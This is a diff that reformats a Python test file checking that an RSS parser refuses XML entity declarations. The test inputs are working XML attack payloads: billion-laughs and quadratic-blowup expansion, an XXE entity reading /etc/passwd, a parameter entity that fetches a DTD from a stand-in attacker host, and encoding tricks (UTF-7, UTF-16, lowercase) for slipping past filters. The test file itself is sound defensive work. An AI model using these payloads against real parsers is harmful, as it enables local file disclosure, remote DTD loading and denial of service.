@@ -20,7 +20,7 @@ UTF8_DECL = '<?xml version="1.0" encoding="utf-8"?>\n'
 
 def feed(doctype: str, ref: str = "", decl: str = UTF8_DECL) -> str:
     return (
-        f"{decl}{doctype}\n<rss version=\"2.0\"><channel><title>T</title>"
+        f'{decl}{doctype}\n<rss version="2.0"><channel><title>T</title>'
         f"{ITEMS.format(ref=ref)}</channel></rss>\n"
     )
 
@@ -51,25 +51,38 @@ QUADRATIC = f'<!DOCTYPE rss [<!ENTITY big "{"x" * 20_000}">]>'
     [
         pytest.param(feed(BILLION_LAUGHS, "&j;").encode(), id="billion-laughs"),
         pytest.param(feed(QUADRATIC, "&big;" * 5_000).encode(), id="quadratic-blowup"),
-        pytest.param(feed('<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;")
-                     .encode(), id="xxe-file"),
-        pytest.param(feed('<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>')
-                     .encode(), id="parameter-entity"),
+        pytest.param(
+            feed('<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;").encode(),
+            id="xxe-file",
+        ),
+        pytest.param(
+            feed('<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>').encode(),
+            id="parameter-entity",
+        ),
         pytest.param(feed('<!doctype rss [<!entity e "x">]>', "&e;").encode(), id="lowercase"),
-        pytest.param(feed('<!DOCTYPE rss [<!ENTITY e "x">]>', "&e;", decl="").encode("utf-16"),
-                     id="utf-16"),
-        pytest.param(feed('<!DOCTYPE rss [<!ENTITY e "x">]>', "&e;", decl="").encode("utf-32"),
-                     id="utf-32"),
+        pytest.param(
+            feed('<!DOCTYPE rss [<!ENTITY e "x">]>', "&e;", decl="").encode("utf-16"), id="utf-16"
+        ),
+        pytest.param(
+            feed('<!DOCTYPE rss [<!ENTITY e "x">]>', "&e;", decl="").encode("utf-32"), id="utf-32"
+        ),
         pytest.param(
             # UTF-7 spells "<" as "+ADw-": invisible to a byte scan, decoded by feedparser.
-            feed('+ADw-!DOCTYPE rss [+ADw-!ENTITY e "x">]>', "&e;",
-                 decl='<?xml version="1.0" encoding="utf-7"?>\n').encode(),
+            feed(
+                '+ADw-!DOCTYPE rss [+ADw-!ENTITY e "x">]>',
+                "&e;",
+                decl='<?xml version="1.0" encoding="utf-7"?>\n',
+            ).encode(),
             id="utf-7",
         ),
-        pytest.param(feed('<!-- <a> --><!DOCTYPE rss [<!ENTITY e "x">]>', "&e;").encode(),
-                     id="behind-comment-with-element"),
-        pytest.param(('<!DOCTYPE rss [<!ENTITY e "' + "y" * 100 + '">]>\n<rss>&e;</rss>')
-                     .encode(), id="no-declaration"),
+        pytest.param(
+            feed('<!-- <a> --><!DOCTYPE rss [<!ENTITY e "x">]>', "&e;").encode(),
+            id="behind-comment-with-element",
+        ),
+        pytest.param(
+            ('<!DOCTYPE rss [<!ENTITY e "' + "y" * 100 + '">]>\n<rss>&e;</rss>').encode(),
+            id="no-declaration",
+        ),
     ],
 )
 def test_entity_declarations_are_refused(body: bytes) -> None:
@@ -122,8 +135,10 @@ def test_cut_out_doctype_keeps_line_numbers() -> None:
 
 
 def test_entity_text_in_an_article_is_not_a_declaration() -> None:
-    item = ('<item><title>XXE explained</title><link>https://news.example/x</link>'
-            '<description><![CDATA[Never accept <!ENTITY x SYSTEM "file:///">.]]></description></item>')
+    item = (
+        "<item><title>XXE explained</title><link>https://news.example/x</link>"
+        '<description><![CDATA[Never accept <!ENTITY x SYSTEM "file:///">.]]></description></item>'
+    )
     body = feed("").replace(ITEMS.format(ref=""), item).encode()
     assert [e.title for e in parse(body).entries] == ["XXE explained"]
 
